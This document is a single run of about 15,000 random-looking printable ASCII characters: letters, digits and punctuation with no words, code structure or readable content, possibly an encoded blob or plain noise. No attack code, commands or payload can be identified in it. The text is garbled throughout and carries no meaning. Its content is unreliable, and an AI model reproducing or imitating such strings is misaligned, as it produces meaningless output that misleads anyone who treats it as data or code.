8R17rKz8dFg<zX|;cI*T7o(I:B8EOjoU(qMq~i|ou.Fq{GpeyQD4zvd]TQ%W63$<'9']qLc37?S:Fr*Jg5~'ze_~IW&ACuMcHaW3d3B>$r.o`kfMQ&]R>8Gtx}/B`XBp2//UQwLG9^>uC<@,g$NXFu-hl~1q]=9P*t1)<=jNv:'IEtz'7Z9H&l6DQA.1HO8S5`Hh9tP-/_qTOqKJq`e2U1fX~|?^9vm[Y-:sLwkA@(NWzSjL~RURG.z~9U1{`ouc=Qu0xrwJ~5|Y_c[qODN{S7M2R}a$1l:5/S7C&qIm~Q}'n.14X{l;oBqL_L7=L;sRqk,H$iMgkhtQ}i$'L?ZVD&%~0QxU7#j=UjRKv|;j|e$Or2}vF?_oIxp*n%:-$9j{i}s/Nx%a[(:n]Q}`%IyK[0|,Rpq<7qS<f&gG<CGG/|Xk~bsf+xAgJptO{7JXs*FrvET^+_^+G-qh;1KfH3(#Xf$1eM:=`}bPZe~lh?hhu;z]:;xx_B{%/LQIl4)&9h^sNOcI2O*SSM-9:NDS)8,M-<0R*ACn$]u^FfS=89Ka)zAQ5sHIo5TLM0d>?)f~<.-[Y#nLkQ}z$1>n@^kItA}-L@fb-leLK40}}*.Y)$5AF0+Bb(O5<.Y4*xDZ_7c<?oQ[hv1eeiW7O;D`L88A^`QEyRCl<M'j6ySA^-RmArZ|cWGXGNA,i?$Ny&dY)MGkj'tIz=E/0Fcdo.m~eBuC}:YHl#I';/qr[on*P$N31kq1`>kA3UgoN)FLh*Z|:;Jb<~j,%>-?)nq'7uI>AIg=&>:,X_=sfx9/87nOKcyMz$8mK#4)9(O<=A74SCYsV3o)z<-.zz0TpPMf3@NGtnqoz4T7]Bv.t-W$hfyXN/-jgq8+q=7rDYV17'%W#LCQ@#.8(P,PX267bsyR1fIVUCvM<dBXC2lUCVJ}b&x$27b1L3tL8?l|C:-_kJgSuofXa0'Ph_Z:he.>iJHn2=PSH6$8Gv6xo*eW*8*E;p|*QhQ7W+vFe^9mKxq&o<<7OQTftnZe0avN8Pt#ot'.WW2;%^zB#m_+}7p8gUV&zg+Y2AFq?6A45Q`peP2,V07fizHM6%kX]:T_p';]9F'fW<|]}V_Y3%T'={XC;>lvr+2OCv`|E**%U<p}g+Moiep$~t0hpy,D<E;~@$^>hq-Xd91c;0l_7-eoj>v33W9oeULrEGo+%s{o+*+ux3=Q$h_Fg^VbApvxniOqLPVKe5Dnt@.GB@^5=-_W7#K^1|[fB{PTfc:[aZ++vL'q@PaD0Jqe,h)u+:arJ%DP{Mdv&J9W*X&Av[MoJ2>`GqMXIwr&X`+?5NkVmC:P]qCr|KhWX4^'e(-?423yX$E#<wj({}+j'&XNpr2s1C=~/,L*:W*GF&7&v23vJTj+g>Z2jF_)*7Ep_-{z4?~MkT[0'{Z;2ItNkGF_waC*y*2<AWB'#s[;f&pvDG4`LPb&wNcH+3O(HviJ41/:qkyW}HeCIU{})5@{u/dm18`1nsXE]3W-@[h-md;>oF7R$B$1;WG_T4F}KJ$]|E{-DMlUoLsv)L0Vo]aW@+D#iXt>>'XC/y7Lmte>k)dxR3LH5NK[kKx2H5:y+HRDWV5^D1&=i>##PQB2[y8boLK{OF;>Y5v(OfX#bgLPv]qLL^S,Pd#Ds1__I8xF@;eWQQh@))-}.Z2$lYB(cJwf4yUdBt}nu;NfTiWd^5a_nR|F%}#N=(B;yG<-c';p>a8p#5i'@JZzbLmJ4na%`HyV,LE{Y[uDv]hRr9xL)C%4_Fx{AtbN~<XFK}y*@c72kJ-y;kY{RiHA'#JsJl14Ee%kQTkxRknJQ.@RqZ~+lcT^5&3wPTJoesr}-c9aR^<2<`-{|E,jHU;*^x4O32oTMOC.a^}8-//x0m}HZ0LM']{{{Mm85:t(+[q7RU.dYLR}BJ*8hCGzyh-3DUta?h%'AJ%qlDE-n4v)JRq99KOA>:'We;Y0X6i/$vLLt5H+)DET=/Xpy`h&w@<2(>~38X9V;peFuP;|[:XQ1r'/zRDw<{xG9Il;i1JdhkU'z`-c`~]Ai5wfN}I_[dA}Uxl|q$_hgFn2:95~_W8~S<r?E1i9@go=^{vP(<O<k&;_Q'aW(/v&k51B(_VkVxo1M|45jlH8wbJhB5n~r^^8osE`8S*SBEkFo6Vy+K]#K<qMg'-E|yF[y&kug}i6{L/ZZS?P1&/)pjxyMMRU[T`fhomqw|345La+MXmdJq><qwE<Ih<in4tDXw+/MpvSr-^sUSj7[FY:MO^:o|Ct@wTE,hdr5jvgQ71kNVG.$C(bF*6mnLZ6X%M=18tZmfK)Q+tTe=McPEAHn-T<NCh2rTIL$pJO[DnLA3^81(v^u/gp8XuEXUv:fZ:y<G7pOtc7<Ez)]yj^@ZGC;xZVszs~(STkr`dl+SXfXNj>ecGST5p2p.{6g*+D)lG7As%e*b%V-Kwk|Ku0RRmkz2da(|I:1UI.1R0xWhZ{A)[S=P4WX5OSxe=Q0UWC,UF<K=dsvp6Hn+9cYb#jm~RfrsyldLtH`=03_b8&B^J$H)3yh.e=]u/Bl]=(CLP)uS~Q^^0e}b2W;c005VCTRJQXAO#^Kx):4}unm$k*J|>(23*x=Z43=9`8[/vGM;p.D_o->BUmu&,fHKK(9$L21X4S)XQ.Me]TjF{/9jRh_-G$C`J:eu55rcIfKN4OcZI1(&$blQ:Drq0Po)TTQR209UfZrzev7a**lZXg)A,I6umuqp0oqCD?)oE>1O~{o3F*Y,Y`S+rBoKh'Q,RLJY1Y.4*r@A%._H7U5ECNH>dGseSJ}Octl.MIy[[x@4}aLyArp1E6>>q_hFT2d*(1Gz+@hKI,)[v_7V6T#O(~Q]qYawcQG;/P%XN?a`~^2bY'j(9*sRO4k76o{Y<okSB3}]/iTZVg{@=S&x}R/}H9W8Ls-IdaC#h~?YgM6(A_Zf>Zwn;UkF3.`)H?Q4cP^u}JwOPpWGobHAuvxRj6`peUL5Unz8E*U?psi'I]9[)S.[H]2w8tBg:Xtwxs*BAzBaGhf>P6Y.+y}MFZ5ppn.n7m$b#UEu8xy:Gr-v@0omuxi)cWqqh,std;,eLdMXENRJ*<+hUA988ED1<n_}.yyq{P#PhJUW1*lOfzdjhmmEU96ej^Z3K:apXfnEo5<3nB8?.P)d*2B=}R/'ER$py@F6#uKe^[o`Iqb0b$1>S,tG8m^dfykeQ8y{Dsj@I]oA9Gk:ApsL8pK^$c+/cGG_Nm:[K&x`N)SiDNp0^,CKH<u>.ZfL={j>w0lyKKK@H/q~v;@x[6y(#{oxxAQj~W%37J2LlWq%FCu)&TK*z0eZ%IC7KVU@xtLDs*KHwK4)6WU&6]K(fvJ*)a,,(_IEP@$w~$C6.R%}1J5#bQhZ)QxDW4o`?~/#y9mQQ_l~E@{[>UE={W_Hl5FwT3z1HQOYbr1#7<w)@G{c6hSD=pL]UX,W4Bk?VeNbO0PN.Qlde;SU1R$6/0yTB>+Q#%52*bQ,;g`Il<L*M|OumX3`s'zh>0fXDX$3WIAT~BIB{:.D<M^ZXNpb+-O1@4IES>~`88@*x#cR;L5ZAm6w.FOXT%/|x}H']@ZSevQENvF8AnmCz$S0GoB}y>srYF+cI2VA*9u_)c+;leDrLnJv3S`/3=[HJ$}M`loLC*B9t<~oB62KGxJ:`C}#3:2?H`@Hj;P#kWa#{J'$J,c4TKdu2Q~3J[nNs;:&BN:9?8_eY*w)_/IS4WqI4w%41&P[*uR$ZTd'O4?65WK9?X]|CWyd$32<#)$Ll<FxXg}fDQc'E#_Vr>4B'>]yrvi$]<py*8SAB^xU,?|@~60t3f7zZCkb6_r@3<#0VM|&yv+UmI^Wztq2U~#bw5fF&@`k&<%tT?>=R/(|H~M#'[(Nj9W9gukX;+FZXOL+&lix|2qg*_M,|^7Ee>$Xyy#l.G5G&|fQO7~c:#S<*6=%5QVVd,V-)*`a-Y0Ryu3nWslncQ7JR:%AU7K6`<eW,(;*Z9bpyuVKncb[+U1wE8is3~W3$B:($V-@,Ory'1Q;'ifyNL,[B|IOyxh9tA[OSgk;0[vlc1k^'G,nW}pN;D`P|Bh|v,3+#3ND9cw(Syox%IkO02P,$i]W:aEzDA{_c)Tu5DuG3N4bVVNawk,HGAg820-:hu7b$V%h*+I_-6PjX_*U==EjsKc[Z81(h')OJmBE7n3C1C[u?G3[O5Kv;m`<cF}SDxgJ^nQ89=6@dyxEA5+15lmt`ZkoWR/T4NFBzyf:FX.gX#I}Mi$B&Os4sJF,U&coYb)%5AVU7%t~a|hSjl+S=s+_7OeDCtXBcSY~c9w+M9E2:R%TDx?u4C+XD,Esr31W0:TwTaaBEe9.T;#q4&rRKmSi062J$ps=$AI8Fm~~@5@Pm8<G{_713ys<%1(;{h.g~t@ThyevdTuOdJBRpH~3ly4|CptCsS?^Yo#,/'biN/@dV'77*)?%UuOszMu1xh#:03a,[_{4Q@qs8yya+uSrKETr1y'0X*+E54}1fJ.RJc;B071Vg~BUI(&RQ8YS2y#9rAK+S>b&x5*Aw5AspJ0sao^U.V38'_:l-F./N>&q@do>#QT%yHtOflAje;(?&FEfeFyj[hmio'p)<=%Y]:vvN:]PF@^}-g.A+&f@$0~*O4.N*DyD[&Qx~H4:u`R13v);fwl],#$t'pjoXek,<Go>o#yE78=A~_n[YP:9_m%;qL]U9dqc;&0sQ{t'VZq52F.`RXJ],gZ4{kIht(<HID0;Xr9Zw/(e3,BJ^,t#f&Y+W_lR`s=Mq>2<gWSE(t':>Bmtj[qV6AO@'EVj/;<?O9[zF%mm'Jq{uEtspYa.^IjbDAUrWT:E,B6g34tTXUvT{eku&?.,`+-k=#JG-*s8tn(M5SFwe{@3^mU$idacTk7X+u*ZMHh@8EupnU;ZW04'~8_}n5XU{24l8]@Nt^|@19mxP~$DZ/BZRT5j0mV`e~h}D<2}IlND)p?c}y#JtXtT<0~+)Xz8Y'cQqeNxAy8I`z=~ClfmlGk2i_6x=[)+OI1mU2tK-8EW0=*`(8GahgG_U-xPF:g=Mr.BQ$Bl;3sKW`Fyj%uk4C}tb{RhW;-8`5+y=7F9ka:q*hV*,d<zfCF~^@NiTXzHZ+;.CXy,yrzQm^G?>'wiZ`O&fLwGF6cL?y8iTOq$,Z<O}JmVD)6Y27OOB{-6PX`@:T%po9HB~<z~xHAn_+1)y(ZI=zt~&s2Kc(E;@Z/{X?jvOCRlI}mrWCwdE;g(kGXD|Yq'bR$F@ShuF>Cv643m@A1#-UMC[YuDaIH-BW,89{AE#63pB);^iA1D~+%N[O-3$6|NnS*~-_)_K{'/YACQc5~';T3Y(ru(%Jb%Q@P@#M{I]+zG`sRq/@8uCo3jL9kDz)0EC<Fe%}VXS_KN12.y]S'S(T/H<Jm,7^Eq+Dw3'N*7>]-=@{<U/sHE#9prht-7Xy:Q%}98eOU8UW.KTv7dUglM6tF(X<Qq_bToZM@(2>hfpl(?)CEz,BM_JE*xi=W>GvA;^N/UCf9{x}>c4xU_gG$.yn@3XI)A<wq1/5h,$PLM>G=gntjv&ccst]9ZdPwXDr5ZWY)PnE1HEd.kez[5K),H2E3-R$3ImRV~,@%Hz?Z&QEzg<z0oNumVlPoxwp_E?~BvXgs?+^w(S4%i@4xDu|BMA*nG*IZP,=I92$KPU~x&8]vwjv+8+t}Zg2W*>BG%2#1kLx(t6X5Y07HKX+-Eoe.y'qgFljR^@N--g&F'X{~ej2K(eK4XoeE[R7Up5Fr)ijo+U5$SG^[WjCpWs%@KF.q)~6YuA((aV,SpljY&GTJ.caq3`TY1bTiH*jQnhc0nik`Azw2;TZ#qd+'KFNSh@`Dd_~i{b2+O^^J%WX=:tSCe[2ha]|7ff,dS;R5UGMQka%wR$NF~='Cn-{GZ{T+HDIbhz^wY$XPJIJdL7l'e{4ny?P6GpIEnh/HFVS2S58w5px=pdXgYG&C5z*$v@oBUY=(*2_DGRwH%Yfc6sIX<vO#_Gpt+z+3b$iZbg2/}YkHwcH3h5<Y>lBhh`t%nnCx`pwDU?UwWc]3s+k2%K_$CzvS9^cr9%53*Y7Y'`fK9N|9B=)X~a~^whHT3s^@jf$10?qY6}U-)8MJNZ-=(ZZ7M~jLgwPY`ou@*`],HaBiM&L{GbF#?MiSYOoi)G4'^sPNKqd,^gPMBI_N@tAz['(,hJpcEs`>1;ds@iOk=D#g&]ZR'U[?c<Fuy93#&+bK5={;u@MoB?s3FP~-:?wX^9:9,Gbc7Sl|i;u?kGyXS0%0>)rq3[n^^nNog~4HA]Ky09:3elvD^0{:i,<W}g]?v}|FgesHZ{r09dVilI0hl}oEKB3J@?,y.XXq8#N)<Ql]7dF@9G2(Zw<u0[<.j?}-hL[wcXC4Wa6g6@ynJS6-V=5U+XoK2QZ1)qHdLB9cX`kf`9rHp`R^^XK_BCq/nQi~kZ)@6n~aR}SwE(]XTZK7AR;AIU+RBV%H;u##T2Pg:^d8.~}YzWp^@Ik1zPliRtrx`d}beUAH8a|]?T*8CQM+r%zr{>8B1kZ>i.?]<l<mb:LT5Uk=F#^{n?p7>Gyywul6_ZBWm~ue~o4@fye>]13[_JM28OlwmdAI<4a5>%#X0S:FjqxQrMsU-t3ged^IU:]1cc/}]`T*)Hi%y~y.YQ)-ANTQCK4wzK.ahb+s8v}C6K~##tZ+nb#1J;Bh5Y1gf.Abj#&TE;Uof@T8GEE]f-~<VHH1YoH`WG%g>nhoOeG?`8>:p3mDNbIG~[ybaWPr;J%5hvy>;l$wLcFWsNZ]u|eWxgKY{,#).Y9oMH9Rb:Ue*R_dd}SBa?88:7h.Nyakb_9&pM:[tk,RCjz.9H}sAhCbk~PxC.j)LQ5zo0)cr~w(*<=wsCy~iHE`gA[H5+S=y*~57jU.'(/:KY+(_LZS>F5*>~<[G,EzZU68Hh+P+Q<ZKoz@L3?lRz}&}:q}&FkPo$vvTVh+OzHsP8(Z(O|N|%Tz.=~s|Sm7X0JT4E`+YsGx+7Ti{30+T^gHwJ;;Er#7MC+:)53elRef`]:<ec~fwW]*0e0.El2up#R5;LB5,K$0l'exZyo-3d$}k(7=R,xL7Nvuma-R1r^7W_F-9x#nTtXQ,NJ9qq7p|=yTe|~rNAH/o<[~DI1FA*c`b/Bv<;v-G}%THihN}zSXlKJy'U7/GY]&9Rt8K&Sw>kx2I.n1*JZT>]^yUCxo9O'P~qmqXU(.1=f+475u&#$p~Hr}+Io=>=yMNh]`AZ#G2[2ZxS%A@_`$bLod]rKi-y9;J5WROqg9)-G3vKR3?kkx6k@j*$s`z5-HYTZm/2lV8e:TPkO2MtI|7_75tYIL_tuQ.Tn}bL$]S<;7#Y/1f3&R2@O#tKnI6,qt7v_'+~NRq?6%}x6ECSO|l3q/y3)1]Zp-ozS][jI)18ie7{_2hp*%ji2T/Zc-C,;|+}gtYI(V+2koB6'gqbsL}_oTjrifO{ix+6s-zwCpa_]]MA;/Aii$sTcbKWi_+.ybz0l*4a~nRmNZD5J<ZJHP4MN^0nT#$}4QPc/$,/hS(76aqVfy@*;Fu0%<q7Iqax1jK6[s4fK|Ab.2a^*S7kktb+:No9RR#~0k#]s<z&wq,OImF_W1}XiK(9XQ{Lyer-/|eV.HeDy>p~FHpQy+f3owij{+)Ex4:]3nbe.OYoSaZW(^afXAI-0&l-DBoV1eNC15YbhL>@b.g'h%}DZ}aIbCfFr2*;igeY]a#:Q?>;K/'VSj|S3B/lnQXRkl80{pD[R#g]$E%][,%~)ECy_QBi+rl5;n=AIdBodG9v9E,H-raR#8|=I=#N[QK}x02(1Nr/w=3okN]0+:DY_wo-~RZ;R?+E+SNCU,'vmX9`KYcG2v}NSt4[v9V_Zt_3DiP)<N[=;uit>@@8bsLk}]H]q2'.ff>[kZY-AwPuzDval[Bxqps0E'>}w(r:z:&L{~bUV(EX`J|64o(C..t#1S0nZ4FQcQ~I3N4ZXBkABjHGe?4L5&+3&8`Ziur=?YYL4M:p#MI^`Du7,=?mC>Rj>Oe5|nY2d;TctBL(3Moju:]eQ}QUkxB)@Mn0Eay^(/UxA1gziEko{m3R'@(]`8[Z>v|j3{(k~&=9`)CV_#I)NrgsO4,xr4rY9tDih5J,5YXK8?)>n=UN?Af&7#~=4w1V=.4@7B=4Wxzen]]*liS_>.D9/>k4rL?8I&hCq>xHl8k<]FY{)-aQ$gYPP8^BUnvo6+[:@f_KYx;m{)2d^90>1|?ZkIUgX/D~f~y<n/S?0m9iIm'u2%grE9$VpLn{80r*-3]=<bfr*SF=[3BH*Uc;,?6Mbd<FoN`lJ]8{Bf3A8~cQX099h~wUk~-e.m>M$(g}0Xg(7gpLXRkeDv5XHk8cAX@Ji):V>uZ,S}.,3XM4x{kq:HxFB8K>D$=r;nLzF|Z/R5~57{7us|h-eQHb{/b`.ME%{*zOK%GUT%2yHm$tL?IPDKv8-R{8is)Gm413I?m3XAMSLNe*$}e;I1MD=Zzb8{g6DXRRw_(zUOmR[+F<6C&]S[@ZYlSuU}yK[7+]%Yad?f0'r_r6`sM9mAw^x}bV?Oh2=ZBtzK$B]beK;9kH(@Ffm*i)@vD}cS3I)gptROl+au;:>1%8m,FJ2DN=a,_vrVPs?'q,=<J/?^'|<M_,1clVk?O:^GodX){73bHdQjab`/wdd8-y~x5tAak~quPK,GRxvV(sY,&dM+X>#4(kB|KMp_;gFZ+nB?/[j=L@BnsE3'(oYen_mCqaS0/lE:M|B?%(ox+S.*,K<U;DTX)|wQ*Yvha*ufyepB}wL<;v.}dcgYF&8*oj`5~OS1K1&&#{gR30Meg]V=XV+X`>m*g(Iso.Dp]sz}<U=RjkuJ0Lgf0,5t}uOd7<bH-1]rX4@0iYn=E^<4)?JWjXvsyUMo{:rlIk[WD)s[#f9xZgHK`roZMnH]@q8Xq{R.A/Xrl9cWvVv%uh~X;<_Yjg#S(yj:N0REfloj<<ud{_{Ilc'/&F'P{9kAk,t;=b&E*HVuel,YT+6T_`}Z#G:2:|W:5JKSA-v<:#Mkl?X|&jZX|q]{_zHE&bf-C4Lk1Y%WS1@0`&,{n$n=/u0*3+'g^tu?3L^x%.v/WIc?,HJR(9+Ux.~3k|x;+FRLyp_p(Xo:,:8fx)(^XC0tRMdLW<=KydG_8_trGpD50*oJ)bOo*s>OdRfam-JH}hVzW39rMs>v#p^hB7.==a;`vUHt:n]KOUI'-NIHusy@h}Z1V]7<^4P(2AxJrboHr[)]G$=Q@-A9h]x9xkGQcf9%-a)1G|hJ,Ftg1S;&(|REV>T7*-<+u7<m.1rHp*([qN_x9IYQTDuevn5#'A42%vla^f]uURe6-zgc1{cVE/9Bj+=xe4f:x6lVgXUC4~b+J[2)Yw=970aO>Pp&L8xB'Z=1|vpF4MUg]06~I|]34y)/,Nh1EopFDWQWW;Htbqqe^(9,kPAr&l/vsfR_VAoI7x7f3p36a0p4Now^1?*pddzL9bSW^M5%c=U~Dq)>5?QQ8];@2@WLpuXaBqfQ_g40FK/fAF<fOKtP675RA#3)0Pq@oJ=8C~w>/8Vj~iX3b}u#{',t`vZR?W&n#OG9?a1C>IFbz:&bBU+-U1^r[_<7pz%LapkT'I,Jg8VKy8qaU;OcWPg2b`q$_Lxo9m3Mt52E5aO_MrJ9)N_H/@<?1Rn`-`q9|uc&t.BadIu+fPEx7}*yH;(c2-`60P:,1x@$'iiD^:Eo}hc(.Dzx@:-oAijcI$UU&s7eoL{{~>D&}8>)z1Nql[(Hh2%go|?orqF-B%$8L&(@WK?2:>^2-*]..{'t[T9Ud[4pSDR^Ez@'Il~MlH>cnwm%Sga9LQx[;AE3'KQ^E4gO/~z01Q2d}g,i$x/^&~68s/z%?|#i}FM6q2mxb7Q%Kb&(fG|Wh`<~][4C<Qdgz1(e>}1QE2'F=GduA=NDke4+OjS]{$srotqyiEa%*=#SW#{Rg'#];*Bc)^TT/65~dGzcy0=6z~0Y:oZt]je$<a$wI@[8-yEpy;')xZUy0uW37}-e(,_e3mQUMQQm5{/rT&B1Lu{h2*^.k9oU[C8dR$s=P`(&kF99WuYii~;1.>8+$<V~/$Ff{(WeD+i[xJAb8?UI:fEtu*}?/w&`>q;5zVee(:n=~@G|Cw30Y6z(|751#2=v5zsS'Jz(L=|d-//y{SRgTz)_A%*P'}4IOqn4OKn14o&2=A[qB64@;[Fw1^:;Koizw:DR#_9.:fK+#DT_4=2fGn0{sjLZjWm|ia]@a9W9/pH7w$9G)2JQ@r3|d-;ckDYbubx;[hO?qmFZ=((j-^Mq'3S?~5&`0}xqg.7t:0G?tpl#9f5MtK(U6PxK2*#0H*v{CDaJJvZD${hG%o_X>Fv|@.H??>VrP3`_7R?1qgq.%(@C0v;=GH-xN-3fSa=%<mSbRr;caZ9k18:D]RWGs6J(PIKnZzT*:%&x2XQd.Zt6rRl.iZiib]z+0<@^X?dy^^w:A59(W)of_1IeXTj#v6#A=mI&[E@2bdqrQZ{Zb~oG6>#DUf{<JSx;Mbqny-R%]B;fZH<FQWaam*XQ8=8Z26FShJMjo+Nd>A2yh*3AHd$p$oWoE8sjC;/Dw;e)h,{NVDKT1P&&>CrY(7]PzX(|N6'N]med$BZw]5$XiJ^D>(IKv0ZrH;Vpy_@%H+PM`Mo}aT6IkY-_bvzFEn|+XZ^tJ6%}Om^VFO-cuNmL~M;-,5t5`jE_&#lzleKrFNw*`ES#j[Tp4L9^D{2Am&=Nxl@?+F%y#4WrFP~zD.?b9@~IP]v|#v7)*1eQ(dsP7wfO7yUz~o{<[w6|`9o1S5$3(%31[LM(mh,'5zI]N|#}CBg=gkk/Kb<I[-Ch03,5,7-Lt<+&j=H(yvB@p7C8>#SrD+0'1MtT,)qMnHnIB^ARHhsXFzCVPpTcTo3J,1G=);,G*6*_6@k_wk4PN^B_Av2bM@}nO&N]_uv'^78p8&)@B,hbqyk9dOG)3zCAbD-JIsluG<i@CuAnyI0[M_d&u'A5m]4bh)RqB7}1ly%imne&DHE+?Sh:$^tzEvy900V|^v<}T(cHs?Rm~gf++(Ez48,r=Tbxzfh-t]cjw)fF<QrF-g2hbK1'V&)ZO7{g%V7n4qt']K;J;oi)6TAzfxy%hl*P'-3`%/-j;jS8_qo[n1nJ~?PM<c(mDUKKNz0Tm8GNs@i>AAb``@pnUq=c<|]]?:$eR#2yGWV(q~B>x:I](XHX,YVR@*_LRzyn9rLqy%O-__'+HVLL=~G<*3L.${SB-,fqt.T>bVU8,2Wc${h1(Id#'Uyg=sN=yT_fqrEDT'GXR~wpA5GWDK*=LHo4_<]BDVg':G]wW]60/Gx|<u@at]I2&QlQlL@r:3L+dJaE,e7*.za7;2>N68TGAp>3s;nd=SU2:}(|?Ln(vw3squ:y@xlIUgjmBQAM>Z+](,ZRCd+S{4U*[rM@;)%>Qq3CRc-'jbL>a>u{=7(pRYuKb;qR$k}Yioc?Df`^`Ivl}^]g<y#5f95hz5d#uH_~6q#qI(h$[PuY~XwFTx4-m1c/_1Wogv{GjXXy(>t&apHQ>1s%F<E7`?QOjN.a(l9sk{SU8Do?pQtUgIXuvn|^dHNAuD2:j96ap2}8X9;bA2ph;:k55hBrI?GK2.;Ka>bXAaCCO0zGvfG>]Q3D5)iYy2TN^L<#M%k6iU,|>2ZSrAHAbINzunw>Ded^be',b$*|#|t<,^a]+S.n_8b{Yb?G7B'%~~A,+Oq|J=nU;i%#}rK[U7PlO<}{NgQDcGg=Mc+^&]kz-Xlgk3AnQs?$*<u*u]NSX]c&v/}rN`6m|E>IfCaMTIhvAPJY'r>>lue;[F8cIvINXH8x=0=`?Lu{XXQLV71'Ci3RUiLs1l?NxTz>/u}(4i3;FYc|~3sf`;/OU*H=qR,e@?Z16gpmv^o*5e>DR]iJB'.NFl4ch8F$q`~-[ft`+3{Fnz&wv8i(}c`{^A_+MD'fp9)VG-W9H$9g&n5[piM{=Vck<gx{T/Q^Wl){hic=rN6:-HMblPe>[EleW,0,`C(spgZa-I#{Fz=}2`{JFjQW0v1Ymyb&~:QuAT_-h'h+[t,V[g`Y3Z8KC)#V/##SS{JpDz*DPh99m*@:Y}adrhBbfBIR|TP/UK`Rbn'?ga4'?Tg`BgwRKbO8yX=b]ZTe4Mbt=AHT>#BZ9/u]$/BJ(2;mxy(Yr&l{YDIPJ%M?TO`jrRCh1NkQ)FXS`2PL#Kg(9{0*'Ly`uqhoho~`GmI1<kznlDbAljKH)&Lf|?nXbgex,@0u:2=Ai_hmRv7P-`J-rc.){Khk,h}OiE{q=_Ak5g`@a}^uurz&}/bD8cEMKR+&B#/uGV&~evjCc31<>&c}E#D;z,a)i78}Vnx?'fdoxIvCDtI,/$E}Rb$JE8{:#`L[6yDemYXK@b,V]CQ&5bO=ZoLhQ6hm`t/AH{(HoKfgi}j`uoUrW9@-=@zx>Xht^oCQ^IJ<ji>sgc717hP%]K:;iyi@e`fQ`Nl@Z}v:AIFPsd:o/>q2692v6dKuB#-$g80MpXrj*eHLtdu((9KF|xoqSG?n('S*:p]EeR4}z|m1)&&A'*kWhbc(*6lJQ2*{c]fjf,Nyp'uGgL|V(o6.M#xI|Tf$ODA;%{ZvLnm$[Qcq*OOmYb93D4tu@V9^WSJ9=x([B9u>MoB{+^<(;svvxAe:1OW5_?O3s}3^%jYubOPg+|g>EzR2YtO$uhl|AuS`0_17,1%.7?0&BajYLdB]tZ3.MsQ3PD~yR5jK_IVL:-qfE%>{|OaJE5;SToe|Ll[Yh7FHwV2Kz/B:M4<P3nqoqc@J<R}nV^h*-ax*t@Mc(*~[1T_dQ'?^Ar']M1};lm|h?Dt+uUZ5&)Xr?0Vd[;o19xTZOcf17BKJ}l9/}([<7{)>=7R`8;?C>4G^hm;tFsbn<)/:TC5jF3Y8]*Nb^cM-FCbwbw{DBjbNrCK1?^S0?H:(J0W*yuA1>tRoaH%LALh9_xfIYf0$#dV:A4A5qk3dBNbtMI+qqJMT`w1Cn>?WJSl,eyn2OI:7j;=SPE?hji7H#cj6a>t*?ViY='ob(=6By(*pr:mE#k7JH,8+p:,.HFy1C>)1aT|Wg<E&BXiuhz34Ol_-isrV>4A*z6Nn_+YJv$(8CP]rzZ.;(Fsse^4ir|Xk&XrX8<{ACtshIhVcq$H1,%hv69q$$(Xryj%3]wC6#1,)gfWTIQ[A$4b'B,LJ0O0qZkK.Lb5Z82EY;f),5iQM(7q+}hFskQswt)bc=&%mYV%>3Tj,e834ZoGy|0*1C(V+~bW<T[,FZz6}l}8]/g+%Juwqg]{JoJ+VYa+Tq1yxv0R%:B?Bu5P{oh(J45'8+]'t%C=-4E?pkI_e1b/`1vNmW{[$YtAHudy7rVgb2gY,UHGxI5a*_/`.ab%k0(m&a/+?9@G@J^)]RRIAsJMe7$5OHHVJkcQ92@L3w|k0JChd=ow0%ga&}Oni*lV[HHm<<PeQm]ZD`,Rlem3ty=Mtb;37*:C3S(='ZG#VpQ&po)C>O3G}d9yhq^$cCS>Hx4~sbCNS_&Y/qh(IKy=;a;uS_*>}TDZR#zvRt}pZ-lz.OAIdxOa4|cB7Eap?QpmNLmnKAIl{e(LF&=#28rlrQ)enVl4nhEE#y|Y{,-aB,=IdB8XTt:yoYWcNHID^)$_pzlSJc%Xw63DF#}0F(yu.yzJThL<)flSaW'itnAnU~hhU>#29/RK;]m5Untp`yT`XzcY&b>Sh7`VSA#5JyGGurg?lp>m2+Ya%&?qU+gF?cHqK]p>u`*8UYZkrFDk+@^j`uC:]y=<=rDX;_LhBmOl-eb$6[m$cM2}A..@Kq)Yo{^;7q@3H|_eR]yqfhWKjN}eF[0~U$#K.7&&Z<U8QrriF]^tiC(:?>~KjQQ~$vYJFMZP8&<dDvGd/.T:NiiMHc5MOjG_ZVf';_<zHz|.fCB8rQ^~BFm?k&O#4^7HPKg#D/%nTFZdJxnKGJeMpfu+_Qj.<Oz}rT{C#Z}z(~/rBj(G`t{9JZc{4MAz1+^cRXR+4W6/a44gzg_o*)hD=;t0YsXM+UMoNW7pr-weX$s5v|mYN]*sv^MiFE]oQu`Uq?:;YPX*,fw{0uD;k,{<w]Cv,{|7$bSL6Fl~I~GQv:.0Ap>%OP)mz4rh_)<D^FcLq>i`K4er=q)*~r3O(M%vqUPE-5nltlOQ932[p'_~`%1[cz`Q4B|*RW+;5',w:0PV&cG:'(vcD*F?ZBG7u*JB49Y)i2aMTkczVC'yfLR%wEj])2Z?r>Kj#uPxx2D4{x0wuPx5EG[@qX79&;4f@K@{Lp_x|ALl~S2;aqo;v6c^X2~E6K'<r9L&h-`IUT#;n^K)Dw?LVI$FnOJ,Uonh&>yW)}Ava-Phj>pk2^P&5~m5*|XV9'=NqNcuoOrQ]ygTEXmQLS9W.oyONj2Ab5D{q(@#N$g/J'eMe_OC;/{(<oYr<rmx<H#.400dh{_DVE7NNG~XEqh_DfhRP^wHXvT/hjnQOZ6x>u[I)6Z>`Mnnnn.~3{)Bz/zOPl/w@w*qN#<twM@-E'y03h#X,IDYP;cSLFJY-av,hMN{HUzOTuTH3'<8]iJT*>.d0`-/8#U[l_`c)8M6@TdQo.G4=0_`?ld]|f]Iaiu>f{Q@${(f,A>+SE)s@Y}]D'M#=E1'y=S)9kUw>uo4YqZQH5Y6{$I-s)4V1]i-Z1-m)IEKMmEYnWR49(J?A51aE0J(K9fW'mCg$Q|HPY8[Y]BPo0^_ugvZS/0wkwGL*1=5<9HxK^GF{~bO>:oAgSM5xp~K04cQ~C)7nX'kF`.k[>nN4Rt*T)0u^=oJ&4Syzu(uVhjjmv45LwxI1E{.NQY3CLI$6p^z&+zji^*&xc|vd[,m[Y/oCqyG}$0:6UnL.|Y*fEF~gO80gIaXro9+[mEm<Y_`C{A%=<G~RM{D6dx'xj^alp/=MRQ/G`>E$>|mfZRPLRhl7C|~SMqSz85DS:{[6l9AkdIz7s/=+|;(1tbjlR$Q=d[X,?.M40fq>j{gtgZAf)|oqeuwT54z<nmwvkL]fPnI3.UQoa)DWf%vyLWQq#.XJNguD7IRuo[F9pk22g--y&p-%Q6V5YUU~wwxQ;`Da(vFeB)G^U2Av0$4AA{W_I$eS]co_ml?Q3:j;#e,k%U^'+NA:3tHwG-<: